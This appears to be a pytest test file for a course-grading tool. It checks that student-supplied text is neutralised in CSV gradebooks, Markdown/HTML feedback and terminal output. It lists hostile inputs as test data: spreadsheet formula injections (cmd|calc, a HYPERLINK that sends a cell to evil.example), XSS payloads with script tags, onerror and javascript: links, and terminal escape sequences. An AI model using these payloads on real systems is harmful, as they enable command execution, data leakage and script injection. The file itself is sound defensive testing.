"""Hostile strings wherever a submission's text reaches: gradebook cells (formulas, separators,
control characters), Markdown and HTML feedback (raw HTML, links, images, structure), the terminal
(progress bar, error lines), and text no encoder takes (lone surrogates). The last test runs the
whole command on a course of hostile names and messages, with stderr on a terminal."""

from __future__ import annotations

import csv
import io
import os
import pty
import re
import select
import subprocess
import sys
import time
from html.parser import HTMLParser
from pathlib import Path

import nbformat
import pytest

from buflesson.cli import main
from buflesson.grading import Progress
from buflesson.grading.feedback import feedback_name, markdown, page, write_feedback
from buflesson.grading.gradebook import NotebookResult, ResultStore, merge, write_gradebook
from buflesson.grading.text import csv_cell, printable

FIXTURES = Path(__file__).resolve().parent / "fixtures" / "grading"
ANSWERS = FIXTURES / "answers"
LESSON = "90-fixture"
TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\n", "|", "%", "\uff1d", "\uff0b", "\uff0d", "\uff20")
CONTROL = [chr(c) for c in [*range(0x20), 0x7F, *range(0x80, 0xA0)]] + ["\u202e", "\u2066", "\u2028"]

FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "|calc",
    "%0A=1+1",
    "\uff1d1+1",
    "ok;=1+1",  # a spreadsheet that splits on `;` would start a cell here
    'ok",=1+1',
]
MARKUP = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "[click](javascript:alert(1))",
    "<javascript:alert(1)>",
    "![pixel](http://track.example/p.png)",
    "[ref]: javascript:alert(1)",
    "a | b\n|---|---|\n| c | d |",
    "x\n# A heading of mine\n- a list",
    "**bold** _em_ ~~gone~~ `code` ``",
    "<!-- hide the rest",
    "&lt;script&gt;",
]
TERMINAL = [
    "\x1b]0;owned\x07",
    "\x1b[2J\x1b[H",
    "\x1b[31mred",
    "\x9b31m",
    "bell\x07\x08\x08",
    "\u202eexe.txt",
]


def result(student="ann", notebook=LESSON, file=None, error="", message="m", **extra):
    check = {
        "exercise": "90.1",
        "of": "90.1",
        "title": extra.get("title", "t"),
        "status": "failed",
        "message": message,
        "hint": extra.get("hint", "h"),
        "points": 0.0,
        "max_points": 1.0,
        "hidden": False,
    }
    file = file or f"c/{student}/{LESSON}.ipynb"
    notes = extra.get("notes", [])
    return NotebookResult(student, notebook, file, "crashed", error, [check], notes, 0.0, 1.0, "ab")


# --- gradebook.csv ------------------------------------------------------------------------------------


def assert_spreadsheet_safe(text: str, rows: int) -> None:
    assert not any(char in text for char in CONTROL if char != "\n")
    assert text.count("\n") == rows + 1  # no line breaks inside cells
    for delimiter in (",", ";", "\t"):  # whatever a spreadsheet splits on
        for line in csv.reader(io.StringIO(text), delimiter=delimiter):
            for cell in line:
                assert not cell.lstrip().startswith(TRIGGERS) or cell.startswith("'") or _number(cell), cell


def _number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def test_gradebook_cells_never_start_a_formula_and_hold_no_control_characters(tmp_path):
    hostile = FORMULAS + TERMINAL + ["nul\x00byte"]
    results = [
        result(student=text, notebook=text, file=f"c/{text}.ipynb", error=text) for text in hostile
    ] + [result("plain", error="died")]
    write_gradebook(tmp_path / "g.csv", results, ["90.1", "90.2"])
    text = (tmp_path / "g.csv").read_text(encoding="utf-8")
    assert_spreadsheet_safe(text, len(results))
    with open(tmp_path / "g.csv", newline="", encoding="utf-8") as handle:
        rows = list(csv.DictReader(handle))
    assert {r["student"] for r in rows} == {csv_cell(t) for t in hostile} | {"plain"}
    assert "'=HYPERLINK" in {r["student"][:11] for r in rows}  # shown, not dropped
    plain = next(r for r in rows if r["student"] == "plain")
    assert (plain["90.1"], plain["score"], plain["max_score"]) == ("0", "0", "1")  # numbers stay
    merge([tmp_path / "g.csv"], tmp_path / "m.csv")  # reading back and writing again adds nothing
    assert (tmp_path / "m.csv").read_text(encoding="utf-8") == text


@pytest.mark.parametrize("text", [*FORMULAS, "plain", "-1", "2.5", "1e5", "'=already", "a;b"])
def test_csv_cell_prefixes_formulas_keeps_numbers_and_is_idempotent(text):
    cell = csv_cell(text)
    assert csv_cell(cell) == cell
    assert not cell.lstrip().startswith(TRIGGERS) or _number(cell)
    for after in cell.split(";")[1:]:
        assert not after.lstrip(' "').startswith(TRIGGERS)
    if text in ("plain", "-1", "2.5", "1e5", "'=already", "a;b", 'ok",=1+1'):
        assert cell == text  # nothing to neutralize: unchanged
    else:
        assert "'" in cell or "\\x" in cell  # neutralized visibly, not dropped


# --- Markdown and HTML feedback --------------------------------------------------------------------


def hostile_results() -> list[NotebookResult]:
    texts = MARKUP + TERMINAL + ["A" * 100_000]
    return [
        result(
            student="ann",
            notebook=text,
            file=f"c/ann/{text}.ipynb",
            error=text,
            message=f"Got {text!r}.",
            title=text,
            hint=text,
            notes=[text],
        )
        for text in texts
    ]


def test_markdown_feedback_renders_no_html_link_image_or_structure_of_the_students():
    mistune = pytest.importorskip("mistune")
    results = hostile_results()
    text = markdown("<b>ann</b> [x](javascript:alert(1))", results)
    assert not any(char in text for char in CONTROL if char != "\n")
    assert len(text) < 40 * 2000 * len(results) // 10  # long strings are cut
    rendered = mistune.create_markdown(escape=False, plugins=["table", "strikethrough", "url"])(text)
    for tag in ("<script", "<img", "<a ", "<table", "<em>", "<del>", "<!--", "<b>"):
        assert tag not in rendered, tag
    assert rendered.count("<h1>") == 1 and rendered.count("<h2>") == len(results)
    assert rendered.count("<code>") == len(results)  # the file names, nothing else
    assert rendered.count("<li>") == 2 * len(results)  # one check and one note each
    assert rendered.count("<strong>") == 1 + len(results)  # the total and each check's title


class Tags(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.tags: list[tuple[str, list]] = []

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, attrs))

    def handle_comment(self, data):
        self.tags.append(("!--", []))


def test_html_feedback_has_only_its_own_tags():
    results = hostile_results()
    html = page("<script>alert(1)</script>\x1b[2J", results)
    assert not any(char in html for char in CONTROL if char != "\n")
    parser = Tags()
    parser.feed(html)
    allowed = {
        "html",
        "head",
        "meta",
        "title",
        "style",
        "body",
        "h1",
        "h2",
        "p",
        "b",
        "code",
        "ul",
        "li",
        "span",
    }
    assert {tag for tag, _ in parser.tags} <= allowed | {"br"}
    attributes = {(tag, name, value) for tag, attrs in parser.tags for name, value in attrs}
    assert attributes <= {
        ("html", "lang", "en"),
        ("meta", "charset", "utf-8"),
        ("span", "class", "failed"),
    } | {("span", "class", "hint")}


def test_text_no_encoder_takes_is_written_as_escapes(tmp_path):
    lone = result(student="ann\udcff", file="c/\udcff.ipynb", error="bad \udcff byte", message="\ud800")
    write_gradebook(tmp_path / "g.csv", [lone], ["90.1"])
    assert "\\xff" in (tmp_path / "g.csv").read_text(encoding="utf-8")
    store = ResultStore(tmp_path / "results", "s")
    store.put(lone)
    assert store.get(lone.file, lone.sha256) == lone  # the store keeps it exactly
    written = write_feedback(tmp_path / "feedback", lone.student, [lone])
    assert "bad \\\\xff byte" in written.read_text(encoding="utf-8")


# --- the terminal --------------------------------------------------------------------------------------


@pytest.mark.parametrize("student", TERMINAL + ["a\nb\rc", "\x00"])
def test_progress_bar_prints_ids_without_control_characters(capsys, student):
    bar = Progress(1, enabled=True)
    bar.step(result(student))
    err = capsys.readouterr().err
    assert err.startswith("\r[") and err.endswith("\n")
    assert not any(char in err[1:-1] for char in CONTROL), repr(err)
    assert printable(student, 20) in err


def test_error_lines_show_control_characters_as_escapes(tmp_path, capsys):
    hostile = tmp_path / "\x1b]0;owned\x07\x1b[2J"
    assert main(["grade", str(hostile), "--out", str(tmp_path / "o"), "--answers", str(ANSWERS)]) == 2
    err = capsys.readouterr().err
    assert "no such file or folder" in err and "\\x1b]0;owned\\x07" in err
    assert not any(char in err[:-1] for char in CONTROL)


# --- the whole command ---------------------------------------------------------------------------------


def answer_nb():
    return nbformat.read(ANSWERS / f"{LESSON}.ipynb", as_version=4)


def with_answer(source: str):
    nb = answer_nb()
    nb.cells[5].source = source
    return nb


HOSTILE_FOLDERS = [
    "=cmd|' \\C calc'!A0",
    "@SUM(1+1)",
    "\x1b]0;owned\x07eve",
    "-2+3",
    "tab\there",
    "<b>bo</b>",
]
HOSTILE_ANSWER = "answer = '<img src=x onerror=alert(1)> [x](javascript:alert(1)) =1+1 \\x1b[2J'"
HOSTILE_ERROR = "raise ValueError('=HYPERLINK(\"http://x\")\\n<script>alert(1)</script>\\x1b[2J \\udcff')"


@pytest.mark.slow
def test_whole_run_on_hostile_names_and_messages_with_a_progress_bar(tmp_path):
    course = tmp_path / "course"
    for name in HOSTILE_FOLDERS:
        (course / name).mkdir(parents=True)
        nbformat.write(answer_nb(), course / name / f"{LESSON}.ipynb")
    (course / "quoting").mkdir()
    nbformat.write(with_answer(HOSTILE_ANSWER), course / "quoting" / f"{LESSON}.ipynb")
    (course / "raising").mkdir()
    nbformat.write(with_answer(HOSTILE_ERROR), course / "raising" / f"{LESSON}.ipynb")
    leader, follower = pty.openpty()
    args = ["grade", "course", "--out", "out", "--answers", str(ANSWERS), "--cell-timeout", "3"]
    process = subprocess.Popen(
        [sys.executable, str(FIXTURES / "run_grader.py"), *args],
        cwd=tmp_path,
        stdout=subprocess.PIPE,
        stderr=follower,
        env={**os.environ, "PYTHONHASHSEED": "0"},
    )
    os.close(follower)
    terminal = b""
    deadline = time.monotonic() + 240
    while time.monotonic() < deadline:
        if select.select([leader], [], [], 0.5)[0]:
            try:
                chunk = os.read(leader, 65536)
            except OSError:  # the other end closed
                break
            if not chunk:
                break
            terminal += chunk
        elif process.poll() is not None:
            break
    os.close(leader)
    stdout = process.communicate(timeout=60)[0].decode()
    assert process.returncode == 0, terminal.decode(errors="replace")
    assert "8 notebooks of 8 students" in stdout
    shown = terminal.decode("utf-8")
    assert shown.count("[") >= 8 and "8/8" in shown  # the bar ran
    assert "\\x1b]0;owned\\x07eve" in shown
    assert not any(char in shown.replace("\r", "").replace("\n", "") for char in CONTROL), repr(shown)

    text = (tmp_path / "out" / "gradebook.csv").read_text(encoding="utf-8")
    assert_spreadsheet_safe(text, 8)
    with open(tmp_path / "out" / "gradebook.csv", newline="", encoding="utf-8") as handle:
        rows = {r["student"]: r for r in csv.DictReader(handle)}
    assert rows["'=cmd|' \\C calc'!A0"]["score"] == "2" and rows["'-2+3"]["score"] == "2"
    assert rows["raising"]["status"] == "graded" and "HYPERLINK" in rows["raising"]["error"]
    feedback = tmp_path / "out" / "feedback"
    assert len(list(feedback.glob("*.md"))) == 8
    for path in feedback.iterdir():
        content = path.read_text(encoding="utf-8")
        assert not any(char in content for char in CONTROL if char != "\n")
        assert "<script" not in content and "<img" not in content
        link = re.search(r"(?<!\\)\]\(javascript", content) if path.suffix == ".md" else "<a " in content
        assert not link, path.name
    quoting = (feedback / f"{feedback_name('quoting')}.md").read_text(encoding="utf-8")
    assert "&lt;img src=x onerror=alert(1)&gt; \\[x\\](javascript:alert(1))" in quoting
